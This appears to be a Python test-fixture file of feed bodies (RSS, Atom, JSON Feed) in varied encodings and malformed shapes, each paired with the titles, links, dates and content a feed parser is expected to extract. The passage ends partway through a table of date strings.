# feeds as they are written, line by line
"""Feeds written from the formats' descriptions and from what outlets do, before the code that reads them was seen.

Each case says what a reader of the outlet's page would expect; only what a case names is asserted.
"""

from __future__ import annotations

import gzip
import zlib
from dataclasses import dataclass, field

HOME = "https://news.example/world/rss.xml"


@dataclass(frozen=True)
class Expected:
    """One entry, as far as the case is about it. An instant is ISO 8601 in UTC; "" says that there must be none."""

    title: str | None = None
    link: str | None = None
    at: str | None = None
    holds: str | None = None
    author: str | None = None
    half: bool = False


@dataclass(frozen=True)
class Case:
    """One feed, and what a reader expects of it; `refused` is a part of the reason when it is none."""

    name: str
    body: bytes
    entries: tuple[Expected, ...] = ()
    title: str | None = None
    language: str | None = None
    content_type: str | None = None
    url: str = HOME
    refused: str | None = None
    absent: tuple[str, ...] = field(default=())
    count: int | None = None


CASES: list[Case] = []


def case(
    name: str, body: str | bytes, *entries: Expected, encoding: str = "utf-8", **more: object
) -> None:
    """Add a case; text is encoded as said."""
    raw = body if isinstance(body, bytes) else body.encode(encoding)
    CASES.append(Case(name, raw, tuple(entries), **more))  # type: ignore[arg-type]


def refuse(name: str, body: str | bytes, reason: str, **more: object) -> None:
    """Add a body that is no feed."""
    raw = body if isinstance(body, bytes) else body.encode()
    CASES.append(Case(name, raw, refused=reason, **more))  # type: ignore[arg-type]


def rss(
    items: str, *, head: str = '<?xml version="1.0"?>\n', channel: str = "", spaces: str = ""
) -> str:
    """Return an RSS 2.0 document around some items."""
    return (
        f'{head}<rss version="2.0"{spaces}><channel><title>Harbour Post</title>'
        f"<link>https://news.example/</link><description>News of the harbour</description>{channel}{items}</channel></rss>"
    )


def item(
    title: str = "Ferry resumes", link: str = "https://news.example/a/1", more: str = ""
) -> str:
    """Return one item."""
    return f"<item><title>{title}</title><link>{link}</link>{more}</item>"


def dated(text: str) -> str:
    """Return a feed of one item with that date."""
    return rss(item(more=f"<pubDate>{text}</pubDate>"))


E = Expected

# --- formats
# -----------------------------------------------------------------------------------------------------------

case(
    "rss 0.90 with netscape's namespace",
    """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://my.netscape.com/rdf/simple/0.9/">
<channel><title>Quay Notes</title><link>http://quay.example/</link><description>Notes</description></channel>
<item><title>Crane repaired</title><link>http://quay.example/crane</link></item>
<item><title>Tide tables</title><link>http://quay.example/tide</link></item>
</rdf:RDF>""",
    E("Crane repaired", "http://quay.example/crane"),
    E("Tide tables", "http://quay.example/tide"),
    title="Quay Notes",
)
case(
    "rss 0.91 with netscape's doctype",
    """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Caf\xe9 des quais</title><link>http://quay.example/</link><language>fr-ca</language>
<item><title>La mar\xe9e monte</title><link>http://quay.example/maree</link><description>Tr\xe8s haut.</description></item>
</channel></rss>""",
    E("La marée monte", "http://quay.example/maree", holds="Très haut."),
    title="Café des quais",
    language="fr",
    encoding="latin-1",
)
case(
    "rss 0.91 with entities of its external dtd",
    """<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Caf&eacute; noir</title><link>http://quay.example/</link>
<item><title>&Eacute;lections &agrave; Saint-Malo &ndash; les r&eacute;sultats</title><link>http://quay.example/r</link></item>
</channel></rss>""",
    E("Élections à Saint-Malo – les résultats", "http://quay.example/r"),
    title="Café noir",
)
case(
    "rss 0.92 whose items have no title",
    """<rss version="0.92"><channel><title>Short lines</title><link>http://short.example/</link>
<item><description>The &lt;a href="http://short.example/x"&gt;bridge&lt;/a&gt; was closed at noon.</description></item>
<item><description>It opened again.</description></item></channel></rss>""",
    E(holds="was closed at noon."),
    E(holds="It opened again."),
    title="Short lines",
)
case(
    "rss 1.0 with a sequence before the items",
    """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel rdf:about="http://pier.example/index.rdf"><title>Pier Gazette</title><link>http://pier.example/</link>
<description>d</description><dc:language>en-gb</dc:language>
<items><rdf:Seq><rdf:li rdf:resource="http://pier.example/1"/><rdf:li rdf:resource="http://pier.example/2"/></rdf:Seq></items></channel>
<item rdf:about="http://pier.example/1"><title>Net torn</title><link>http://pier.example/1</link>
<dc:date>2026-03-04T05:06:07+02:00</dc:date><dc:creator>A. Smith</dc:creator>
<content:encoded><![CDATA[<p>All of the <b>net</b>.</p>]]></content:encoded></item>
<item rdf:about="http://pier.example/2"><title>Net mended</title><link>http://pier.example/2</link></item>
</rdf:RDF>""",
    E("Net torn", "http://pier.example/1", "2026-03-04T03:06:07", "All of the", author="A. Smith"),
    E("Net mended", "http://pier.example/2"),
    title="Pier Gazette",
    language="en",
)
case(
    "rss 1.0 where every name has a prefix of its own",
    """<?xml version="1.0"?>
<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:q="http://purl.org/rss/1.0/" xmlns:x="http://purl.org/dc/elements/1.1/">
<q:channel r:about="u"><q:title>Pier Gazette</q:title><q:link>http://pier.example/</q:link><q:description/></q:channel>
<q:item r:about="http://pier.example/9"><q:title>Prefixed</q:title><q:link>http://pier.example/9</q:link>
<x:date>2026-01-02</x:date></q:item></r:RDF>""",
    E("Prefixed", "http://pier.example/9", "2026-01-02T00:00:00"),
    title="Pier Gazette",
)
case(
    "rss 1.0 with a namespace nobody registered",
    """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://channel.example/rdf/simple/1.1/">
<channel><title>Odd space</title><link>http://odd.example/</link></channel>
<item><title>Still read</title><link>http://odd.example/1</link></item></rdf:RDF>""",
    E("Still read", "http://odd.example/1"),
    title="Odd space",
)
case(
    "rss 1.0 whose item has only rdf:about",
    """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
<channel rdf:about="u"><title>About</title><link>http://about.example/</link></channel>
<item rdf:about="http://about.example/only"><title>Named by about</title></item></rdf:RDF>""",
    E("Named by about", "http://about.example/only"),
)
case(
    "rss 2.0 in a default namespace",
    """<rss version="2.0" xmlns="http://backend.userland.com/rss2"><channel><title>Spaced</title><link>http://s.example/</link>
<item><title>In a space</title><link>http://s.example/1</link><pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate></item></channel></rss>""",
    E("In a space", "http://s.example/1", "2026-03-02T10:00:00"),
    title="Spaced",
)
case(
    "rss 2.0 in capitals",
    """<RSS VERSION="2.0"><CHANNEL><TITLE>Loud</TITLE><LINK>http://loud.example/</LINK>
<ITEM><TITLE>Shouted</TITLE><LINK>http://loud.example/1</LINK><PUBDATE>Mon, 02 Mar 2026 10:00:00 GMT</PUBDATE></ITEM></CHANNEL></RSS>""",
    E("Shouted", "http://loud.example/1", "2026-03-02T10:00:00"),
    title="Loud",
)
case(
    "items beside the channel in rss 2.0",
    """<rss version="2.0"><channel><title>Beside</title><link>http://b.example/</link></channel>
<item><title>Out of the channel</title><link>http://b.example/1</link></item></rss>""",
    E("Out of the channel", "http://b.example/1"),
)
case(
    "a channel's image does not give its title away",
    rss(
        item(),
        channel="<image><title>Logo</title><url>https://news.example/l.png</url><link>https://logo.example/</link></image>",
    ),
    E("Ferry resumes", "https://news.example/a/1"),
    title="Harbour Post",
)
case(
    "an image before the title",
    """<rss version="2.0"><channel><image><title>Logo</title><link>http://logo.example</link></image><textInput><title>Search</title></textInput>
<title>After the image</title><link>http://i.example/</link><item><title>T</title><link>http://i.example/1</link></item></channel></rss>""",
    E("T", "http://i.example/1"),
    title="After the image",
)
case(
    "media titles and itunes titles stay out of the entry's title",
    rss(
        item(
            "Boat race",
            more='<media:group><media:title>Picture caption</media:title><media:content url="https://news.example/p.jpg">'
            "<media:title>Other caption</media:title></media:content></media:group><itunes:title>Short</itunes:title>"
            "<media:credit>Photographer</media:credit>",
        ),
        spaces=' xmlns:media="http://search.yahoo.com/mrss/" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"',
    ),
    E("Boat race", "https://news.example/a/1"),
)
case(
    "media:title before title",
    rss(
        '<item><media:title xmlns:media="http://search.yahoo.com/mrss/">Caption</media:title><title>Headline</title>'
        "<link>https://news.example/a/2</link></item>"
    ),
    E("Headline", "https://news.example/a/2"),
)
case(
    "only a media:description",
    rss(
        item(
            more="<media:group><media:description>What the video shows</media:description></media:group>"
        ),
        spaces=' xmlns:media="http://search.yahoo.com/mrss/"',
    ),
    E("Ferry resumes", holds="What the video shows"),
)
case(
    "atom:link self does not become the channel's or the item's link",
    rss(
        '<item><atom:link href="https://news.example/self" rel="self"/><title>T</title><link>https://news.example/a/3</link></item>',
        channel='<atom:link href="https://news.example/rss" rel="self" type="application/rss+xml"/>',
        spaces=' xmlns:atom="http://www.w3.org/2005/Atom"',
    ),
    E("T", "https://news.example/a/3"),
)
case(
    "the link as the feed gives it, whatever feedburner adds",
    rss(
        item(
            "T",
            "http://feedproxy.example/~r/x/~3/abc",
            "<feedburner:origLink>https://news.example/real</feedburner:origLink>",
        ),
        spaces=' xmlns:feedburner="http://rssnamespace.org/feedburner/ext/1.0"',
    ),
    E("T", "http://feedproxy.example/~r/x/~3/abc"),
)
case(
    "a guid that is a permalink stands in for a link",
    rss("<item><title>T</title><guid>https://news.example/by-guid</guid></item>"),
    E("T", "https://news.example/by-guid"),
)
case(
    "a guid that is no permalink does not",
    rss(
        '<item><title>T</title><guid isPermaLink="false">https://news.example/no</guid><description>Text</description></item>'
    ),
    E("T", link=""),
)
case(
    "a relative guid with isPermaLink",
    rss('<item><title>T</title><guid isPermaLink="true">/2026/rel</guid></item>'),
    E("T", "https://news.example/2026/rel"),
)
case(
    "duplicate guids stay two entries",
    rss(
        item("One", "https://news.example/1", '<guid isPermaLink="false">7</guid>')
        + item("Two", "https://news.example/2", '<guid isPermaLink="false">7</guid>')
    ),
    E("One", "https://news.example/1"),
    E("Two", "https://news.example/2"),
    count=2,
)
case(
    "an item within an item is part of it",
    rss(
        "<item><title>Outer</title><link>https://news.example/o</link>"
        + item("Inner", "https://news.example/i")
        + "</item>"
    ),
    E("Outer", "https://news.example/o"),
    count=1,
)
case(
    "atom 1.0 with text, html and xhtml",
    """<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de"><title type="html">Hafen &amp;amp; Meer</title><id>x</id>
<link rel="self" href="https://hafen.example/atom"/><link href="https://hafen.example/"/>
<entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Ein <em>kurzer</em> Titel</div></title>
<link rel="enclosure" href="https://hafen.example/a.mp3"/><link rel="replies" href="https://hafen.example/1#c"/>
<link rel="alternate" type="text/html" href="https://hafen.example/1"/><id>tag:1</id><updated>2026-05-06T07:08:09,25Z</updated>
<author><name>Eva Kern</name></author><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Der ganze Text</p></div></content></entry>
<entry><title type="html">&lt;b&gt;Fett&lt;/b&gt; &amp;amp; mager</title><link href="https://hafen.example/2"/><id>tag:2</id>
<published>2026-05-05T10:00:00-05:00</published><updated>2026-05-06T00:00:00Z</updated><summary type="text">1 &lt; 2</summary></entry></feed>""",
    E(
        "Ein kurzer Titel",
        "https://hafen.example/1",
        "2026-05-06T07:08:09",
        "Der ganze Text",
        author="Eva Kern",
    ),
    E("Fett & mager", "https://hafen.example/2", "2026-05-05T15:00:00"),
    title="Hafen & Meer",
    language="de",
)
case(
    "atom with a prefix and xhtml under another",
    """<a:feed xmlns:a="http://www.w3.org/2005/Atom" xmlns:h="http://www.w3.org/1999/xhtml"><a:title>Prefix</a:title>
<a:entry><a:title type="xhtml"><h:div>Less than <h:i>all</h:i></h:div></a:title><a:link href="http://p.example/1"/><a:id>1</a:id>
<a:updated>2026-01-01T00:00:00Z</a:updated></a:entry></a:feed>""",
    E("Less than all", "http://p.example/1", "2026-01-01T00:00:00"),
    title="Prefix",
)
case(
    "atom 0.3",
    """<?xml version="1.0"?><feed version="0.3" xmlns="http://purl.org/atom/ns#" xml:lang="en"><title mode="escaped" type="text/html">Old &lt;b&gt;atom&lt;/b&gt;</title>
<link rel="alternate" type="text/html" href="http://old.example/"/><tagline>t</tagline><modified>2026-01-03T00:00:00Z</modified>
<entry><title>First</title><link rel="alternate" type="text/html" href="http://old.example/1"/><id>tag:old,1</id>
<issued>2026-01-02T08:00:00+01:00</issued><modified>2026-01-03T00:00:00Z</modified>
<content type="text/html" mode="escaped">&lt;p&gt;Body&lt;/p&gt;</content></entry></feed>""",
    E("First", "http://old.example/1", "2026-01-02T07:00:00", "Body"),
    title="Old atom",
)
case(
    "xml:base on feed and entry",
    """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://base.example/news/"><title>Base</title>
<entry xml:base="2026/"><title>T</title><link href="one.html"/><id>1</id><updated>2026-01-01T00:00:00Z</updated></entry>
<entry><title>U</title><link href="/two.html"/><id>2</id><updated>2026-01-01T00:00:00Z</updated></entry></feed>""",
    E("T", "http://base.example/news/2026/one.html"),
    E("U", "http://base.example/two.html"),
)
case(
    "relative links in rss go by the feed's address",
    rss(
        item("T", "../a/5") + item("U", "/b/6") + item("V", "//cdn.example/c") + item("W", "?id=9")
    ),
    E("T", "https://news.example/a/5"),
    E("U", "https://news.example/b/6"),
    E("V", "https://cdn.example/c"),
    E("W"),
)
case(
    "an atom entry that has only a self link",
    """<feed xmlns="http://www.w3.org/2005/Atom"><title>S</title><entry><title>T</title><link rel="self" href="http://s.example/1"/>
<id>urn:1</id><updated>2026-01-01T00:00:00Z</updated></entry></feed>""",
    E("T", "http://s.example/1"),
)
case(
    "atom content by src and an id that is an address",
    """<feed xmlns="http://www.w3.org/2005/Atom"><title>S</title><entry><title>T</title><id>http://s.example/by-id</id>
<updated>2026-01-01T00:00:00Z</updated><content type="text/html" src="http://s.example/by-src"/></entry></feed>""",
    E("T"),
)
case(
    "json feed 1.1",
    """{"version":"https://jsonfeed.org/version/1.1","title":"Jetty","home_page_url":"https://jetty.example/","language":"nl",
"items":[{"id":"a","url":"https://jetty.example/a","title":"Steiger &amp; dok","content_html":"<p>Het hele <b>verhaal</b></p>",
"date_published":"2026-02-03T04:05:06-07:00","authors":[{"name":"Jan Vos"}],"tags":["haven"]},
{"id":2,"content_text":"Kort bericht","url":"/b"}]}""",
    E(
        "Steiger & dok",
        "https://jetty.example/a",
        "2026-02-03T11:05:06",
        "verhaal",
        author="Jan Vos",
    ),
    E(holds="Kort bericht"),
    title="Jetty",
    language="nl",
    content_type="application/feed+json",
)
case(
    "json feed 1.0 with a bom, html type and one author",
    b"\xef\xbb\xbf"
    b"""{"version":"https://jsonfeed.org/version/1","title":"Jetty","author":{"name":"Desk"},"items":[
{"id":"https://jetty.example/c","title":"C","external_url":"https://else.example/c","date_modified":"2026-02-03T00:00:00Z"}]}""",
    E("C", at="2026-02-03T00:00:00"),
    title="Jetty",
    content_type="text/html",
)
case(
    "cdf and other roots with items are read",
    """<?xml version="1.0"?><channel><title>Bare channel</title><link>http://bare.example/</link>
<item><title>No rss around</title><link>http://bare.example/1</link></item></channel>""",
    E("No rss around", "http://bare.example/1"),
)

# --- encodings
# ---------------------------------------------------------------------------------------------------------

RUSSIAN = rss(
    item(
        "Паром вернулся в гавань после шторма",
        more="<description>Экипаж цел, сообщили в порту во вторник утром.</description>",
    )
    + item("Мэр обещал новый причал к осени", "https://news.example/a/2"),
    head='<?xml version="1.0"?>',
)
UNDECLARED = {
    "koi8-r": (RUSSIAN, "Паром вернулся в гавань после шторма"),
    "windows-1251": (RUSSIAN, "Паром вернулся в гавань после шторма"),
    "gb2312": (
        rss(
            item(
                "渡轮在风暴之后返回港口",
                more="<description>港口当局星期二早上说，船员全部平安。</description>",
            )
            + item("市长答应秋天以前建成新码头")
        ),
        "渡轮在风暴之后返回港口",
    ),
    "big5": (
        rss(
            item(
                "渡輪在風暴之後返回港口",
                more="<description>港口當局星期二早上說，船員全部平安。</description>",
            )
            + item("市長答應秋天以前建成新碼頭")
        ),
        "渡輪在風暴之後返回港口",
    ),
    "shift_jis": (
        rss(
            item(
                "フェリーが嵐の後に港へ戻る",
                more="<description>港の当局は火曜日の朝、乗組員は全員無事だと発表した。</description>",
            )
            + item("市長は秋までに新しい桟橋を約束した")
        ),
        "フェリーが嵐の後に港へ戻る",
    ),
    "euc-jp": (
        rss(
            item(
                "フェリーが嵐の後に港へ戻る",
                more="<description>港の当局は火曜日の朝、乗組員は全員無事だと発表した。</description>",
            )
            + item("市長は秋までに新しい桟橋を約束した")
        ),
        "フェリーが嵐の後に港へ戻る",
    ),
    "iso-2022-jp": (
        rss(
            item(
                "フェリーが嵐の後に港へ戻る",
                more="<description>港の当局は火曜日の朝に発表した。</description>",
            )
        ),
        "フェリーが嵐の後に港へ戻る",
    ),
    "euc-kr": (
        rss(
            item(
                "폭풍이 지난 뒤 여객선이 항구로 돌아왔다",
                more="<description>항만 당국은 화요일 아침 선원이 모두 무사하다고 밝혔다.</description>",
            )
            + item("시장은 가을까지 새 부두를 약속했다")
        ),
        "폭풍이 지난 뒤 여객선이 항구로 돌아왔다",
    ),
    "windows-1254": (
        rss(
            item(
                "Fırtınadan sonra feribot limana döndü",
                more="<description>Liman yetkilileri salı sabahı mürettebatın sağ olduğunu söyledi.</description>",
            )
            + item("Belediye başkanı güze kadar yeni iskele sözü verdi"),
            channel="<language>tr</language>",
        ),
        "Fırtınadan sonra feribot limana döndü",
    ),
    "windows-1256": (
        rss(
            item(
                "عادت العبارة إلى الميناء بعد العاصفة",
                more="<description>قالت سلطات الميناء صباح الثلاثاء إن جميع أفراد الطاقم بخير.</description>",
            )
            + item("وعد رئيس البلدية برصيف جديد قبل الخريف"),
            channel="<language>ar</language>",
        ),
        "عادت العبارة إلى الميناء بعد العاصفة",
    ),
    "windows-1253": (
        rss(
            item(
                "Το πλοίο επέστρεψε στο λιμάνι μετά την καταιγίδα",
                more="<description>Οι αρχές είπαν την Τρίτη ότι όλοι είναι καλά.</description>",
            ),
            channel="<language>el</language>",
        ),
        "Το πλοίο επέστρεψε στο λιμάνι μετά την καταιγίδα",
    ),
    "windows-1255": (
        rss(
            item(
                "המעבורת חזרה לנמל אחרי הסערה",
                more="<description>רשויות הנמל אמרו ביום שלישי שכל אנשי הצוות בריאים.</description>",
            ),
            channel="<language>he</language>",
        ),
        "המעבורת חזרה לנמל אחרי הסערה",
    ),
    "windows-1250": (
        rss(
            item(
                "Prom powrócił do przystani po sztormie",
                more="<description>Władze portu poinformowały, że załoga jest cała i żywa.</description>",
            )
            + item("Burmistrz obiecał nową przystań jeszcze przed jesienią"),
            channel="<language>pl</language>",
        ),
        "Prom powrócił do przystani po sztormie",
    ),
    "windows-1252": (
        rss(
            item(
                "Die Fähre kehrte “endlich” zurück – nach dem Sturm",
                more="<description>Größte Schäden blieben aus.</description>",
            )
        ),
        "Die Fähre kehrte “endlich” zurück – nach dem Sturm",
    ),
}
for _charset, (_text, _title) in UNDECLARED.items():
    case(f"undeclared {_charset}", _text, E(_title), encoding=_charset)
    case(
        f"declared by http: {_charset}",
        _text,
        E(_title),
        encoding=_charset,
        content_type=f"text/xml; charset={_charset}",
    )
    case(
        f"declared in the document: {_charset}",
        _text.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{_charset}"?>'),
        E(_title),
        encoding=_charset,
    )
for _charset in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
    case(f"{_charset} without a bom", RUSSIAN, E(UNDECLARED["koi8-r"][1]), encoding=_charset)
    case(
        f"{_charset} with a bom", "\ufeff" + RUSSIAN, E(UNDECLARED["koi8-r"][1]), encoding=_charset
    )
    case(
        f"{_charset} that says utf-8",
        "\ufeff" + RUSSIAN.replace('"1.0"?', '"1.0" encoding="utf-8"?'),
        E(UNDECLARED["koi8-r"][1]),
        encoding=_charset,
    )
case(
    "utf-8 that says utf-16",
    RUSSIAN.replace('"1.0"?', '"1.0" encoding="utf-16"?'),
    E(UNDECLARED["koi8-r"][1]),
)
case(
    "utf-8 that says us-ascii by http",
    RUSSIAN,
    E(UNDECLARED["koi8-r"][1]),
    content_type="text/xml; charset=us-ascii",
)
case(
    "windows-1251 that says utf-8",
    RUSSIAN.replace('"1.0"?', '"1.0" encoding="UTF-8"?'),
    E(UNDECLARED["koi8-r"][1]),
    encoding="windows-1251",
)
case(
    "utf-8 that says iso-8859-1",
    rss(
        item("Löschboot läuft aus – gegen zwölf"),
        head='<?xml version="1.0" encoding="iso-8859-1"?>',
    ),
    E("Löschboot läuft aus – gegen zwölf"),
)
case(
    "latin-1 that means windows-1252",
    rss(
        item("The captain’s “last” trip – today"),
        head='<?xml version="1.0" encoding="iso-8859-1"?>',
    ),
    E("The captain’s “last” trip – today"),
    encoding="windows-1252",
)
case(
    "utf-8 with one broken byte",
    RUSSIAN.encode().replace("порту".encode(), b"\xd0\xbf\xd0\xbe\xff\xd1\x80\xd1\x82\xd1\x83"),
    E(UNDECLARED["koi8-r"][1]),
    E("Мэр обещал новый причал к осени"),
)
case(
    "an encoding nobody knows",
    RUSSIAN.replace('"1.0"?', '"1.0" encoding="x-harbour"?'),
    E(UNDECLARED["koi8-r"][1]),
)
case(
    "twice encoded utf-8 by way of latin-1",
    RUSSIAN.encode().decode("latin-1"),
    E(UNDECLARED["koi8-r"][1]),
)
case(
    "twice encoded utf-8 by way of windows-1252",
    rss(
        item(
            "L’été à Liège – déjà vu",
            more="<description>Où est passé le « château » ?</description>",
        )
    )
    .encode()
    .decode("windows-1252"),
    E("L’été à Liège – déjà vu"),
)
for _label in ("win-1251", "x-cp1251", "WINDOWS_1251", "x-mac-cyrillic"):
    _codec = "mac_cyrillic" if "mac" in _label else "cp1251"
    case(
        f"an encoding under the name {_label}",
        RUSSIAN.replace('"1.0"?', f'"1.0" encoding="{_label}"?'),
        E(UNDECLARED["koi8-r"][1]),
        encoding=_codec,
    )
for _default in ("iso-8859-1", "us-ascii"):
    case(
        f"a web server's default of {_default} beside the document's own word",
        RUSSIAN.replace('"1.0"?', '"1.0" encoding="windows-1251"?'),
        E(UNDECLARED["koi8-r"][1]),
        encoding="windows-1251",
        content_type=f"text/xml; charset={_default}",
    )
case("gzip without saying so", gzip.compress(RUSSIAN.encode()), E(UNDECLARED["koi8-r"][1]), E())
case("gzip twice", gzip.compress(gzip.compress(RUSSIAN.encode())), E(UNDECLARED["koi8-r"][1]), E())
case("zlib without saying so", zlib.compress(RUSSIAN.encode()), E(UNDECLARED["koi8-r"][1]), E())

# --- markup that is not well formed
# --------------------------------------------------------------------------------------

case("html entities without a dtd", rss(item("Caf&eacute; &amp; bar &mdash; open&nbsp;late", more="<description>S&atilde;o&hellip;</description>")),
     E("Café & bar — open late", holds="São…"))  # fmt: skip
case("bare ampersands", rss(item("R&D at AT&T & friends", "https://news.example/a?x=1&y=2&copy=3")),
     E("R&D at AT&T & friends", "https://news.example/a?x=1&y=2&copy=3"))  # fmt: skip
case(
    "an internal dtd whose entities name single characters",
    '<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>' + rss(item("A&nbsp;b"), head=""),
    E("A b"),
)
case(
    "control characters",
    rss(item("Bell\x07 and\x0b tab\x00", more="<description>a\x1fb</description>")),
    E("Bell and tab", holds="a"),
)
case(
    "character references of control characters", rss(item("Bell&#7; rings&#x1F;")), E("Bell rings")
)
case("windows-1252 character references", rss(item("It&#146;s &#147;new&#148;")), E("It’s “new”"))
case(
    "cut off in the third item",
    rss(
        item("One", "https://news.example/1")
        + item("Two", "https://news.example/2")
        + item("Three", "https://news.example/3")
    )[:-60],
    E("One", "https://news.example/1"),
    E("Two", "https://news.example/2"),
    E(half=True),
    count=3,
)
case(
    "atom under a prefix, cut off within an attribute",
    """<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:title>Prefix</a:title>
<a:entry><a:title>Whole</a:title><a:link href="http://p.example/1"/><a:id>1</a:id></a:entry>
<a:entry><a:title>Half</a:title><a:link href="http://p.exam""",
    E("Whole", "http://p.example/1"),
    E(half=True),
    count=2,
)
case("items that nobody closes are not cut off", rss(item() + item("Next", "https://news.example/2")).replace("</item>", "").replace("</channel></rss>", ""),
     E("Ferry resumes", "https://news.example/a/1"), E("Next", "https://news.example/2"), count=2)  # fmt: skip
case("cdata whose end is nested", rss(item("T", more="<description><![CDATA[<p>one ]]]]><![CDATA[> two</p>]]></description>")),
     E("T", holds="two"))  # fmt: skip
case(
    "cdata within cdata",
    rss(item("<![CDATA[Outer <![CDATA[inner]]>]]&gt;") + item("Next", "https://news.example/n")),
    E(),
    E("Next"),
)
case("cdata in title and link with blanks", rss(item("\n <![CDATA[ Ferry ]]>\n", "\n <![CDATA[https://news.example/x]]>\n ")),
     E("Ferry", "https://news.example/x"))  # fmt: skip
case(
    "markup within a title",
    rss(item("A <b>bold</b> claim <br/>of two lines")),
    E("A bold claim of two lines"),
)
case("escaped markup in a title", rss(item("A &lt;b&gt;bold&lt;/b&gt; claim")), E("A bold claim"))
case("twice escaped title", rss(item("Tom &amp;amp; Jerry&amp;#8217;s")), E("Tom & Jerry’s"))
case(
    "less-than signs that are text",
    rss(item("Prices &lt; 5 euros, 3 &lt;4")),
    E("Prices < 5 euros, 3 <4"),
)
case("unclosed html in a description", rss(item("T", more="<description><p>First<br>second</p></description>") + item("U", "https://news.example/u")),
     E("T", holds="First"), E("U", "https://news.example/u"))  # fmt: skip
case(
    "unknown prefix",
    rss(item("T", more="<foo:bar>x</foo:bar><dc:creator>Ana</dc:creator>")),
    E("T", author="Ana"),
)
case(
    "an attribute without quotes",
    rss(item(more="<enclosure url=https://news.example/x.mp3 length=1 />")),
    E("Ferry resumes"),
)
case(
    "text after the end",
    rss(item()) + "\n<!-- generated in 0.2 s -->\n<script>var x = 1 && 2;</script>",
    E("Ferry resumes"),
)
case(
    "two documents in a row",
    rss(item()) + rss(item("Second", "https://news.example/s")),
    E("Ferry resumes"),
)
case("a bom and blank lines before", "\ufeff\n\n  " + rss(item()), E("Ferry resumes"))
case("a bom written twice", "\ufeff\ufeff" + rss(item()), E("Ferry resumes"))
case("a comment before the declaration", "<!-- cached -->\n" + rss(item()), E("Ferry resumes"))
case(
    "a warning before the declaration",
    "<br />\n<b>Warning</b>:  Undefined variable $x in <b>/srv/www/feed.php</b> on line <b>12</b><br />\n"
    + rss(item()),
    E("Ferry resumes", "https://news.example/a/1"),
)
case(
    "a plain text warning before",
    "Deprecated: strpos(): null in /srv/feed.php on line 3\n\n" + rss(item()),
    E("Ferry resumes"),
)
case(
    "a stylesheet and a doctype",
    '<?xml version="1.0"?><?xml-stylesheet href="/s.xsl"?><!DOCTYPE rss>' + rss(item(), head=""),
    E("Ferry resumes"),
)
case("xml 1.1", rss(item(), head='<?xml version="1.1" encoding="UTF-8"?>'), E("Ferry resumes"))
case("no declaration, single quotes", rss(item(), head="").replace('"', "'"), E("Ferry resumes"))
case("an html type", rss(item()), E("Ferry resumes"), content_type="text/html; charset=utf-8")
case("a feed without entries", rss(""), title="Harbour Post", count=0)
case(
    "an atom feed without entries",
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>Calm</title></feed>',
    title="Calm",
    count=0,
)
case(
    "link as an attribute",
    rss('<item><title>T</title><link href="https://news.example/attr"/></item>'),
    E("T", "https://news.example/attr"),
)
case(
    "a link without its scheme",
    rss(item("T", "www.other.example/x")),
    E("T", "https://www.other.example/x"),
)
case(
    "a link between blanks, with blanks inside",
    rss(item("T", "\n   https://news.example/a b?q=ä \n")),
    E("T"),
)
case(
    "javascript is no link",
    rss(item("T", "javascript:alert(1)", "<guid>https://news.example/good</guid>")),
    E("T"),
    absent=("javascript:",),
)
case(
    "an author by mail",
    rss(item(more="<author>ana@news.example (Ana Ruiz)</author>")),
    E(author="Ana Ruiz"),
)
case("content:encoded beside description", rss(item(more="<description>Short</description><content:encoded><![CDATA[<p>Long text</p>]]></content:encoded>"),
     spaces=' xmlns:content="http://purl.org/rss/1.0/modules/content/"'), E(holds="Long text"))  # fmt: skip

# --- dates
# -------------------------------------------------------------------------------------------------------------

DATES = {
    "Mon, 02 Mar 2026 09:05:00 +0530": "2026-03-02T03:35:00",
    "Mon, 02 Mar 2026 09:05 GMT": "2026-03-02T09:05:00",
    "2 Mar 26 09:05:00 EST": "2026-03-02T14:05:00",
    "Mon, 6 Jul 2026 09:05:00 EDT": "2026-07-06T13:05:00",
    "Mon, 6 Jul 2026 09:05:00 BST": "2026-07-06T08:05:00",
    "Mon, 02 Mar 2026 09:05:00 MSK": "2026-03-02T06:05:00",
    "Mon, 02 Mar 2026 09:05:00 CET": "2026-03-02T08:05:00",
    "Mon, 6 Jul 2026 09:05:00 CEST": "2026-07-06T07:05:00",
    "Mon, 02 Mar 2026 09:05:00 PST": "2026-03-02T17:05:00",
    "Mon, 02 Mar 2026 09:05:00 JST": "2026-03-02T00:05:00",
    "Mon, 02 Mar 2026 09:05:00 AEST": "2026-03-01T23:05:00",
    "Mon, 02 Mar 2026 09:05:00 UT": "2026-03-02T09:05:00",
    "Mon, 02 Mar 2026 09:05:00 Z": "2026-03-02T09:05:00",
    "Mon, 02 Mar 2026 09:05:00 +02:00": "2026-03-02T07:05:00",
    "Mon, 02 Mar 2026 09:05:00 GMT+3": "2026-03-02T06:05:00",
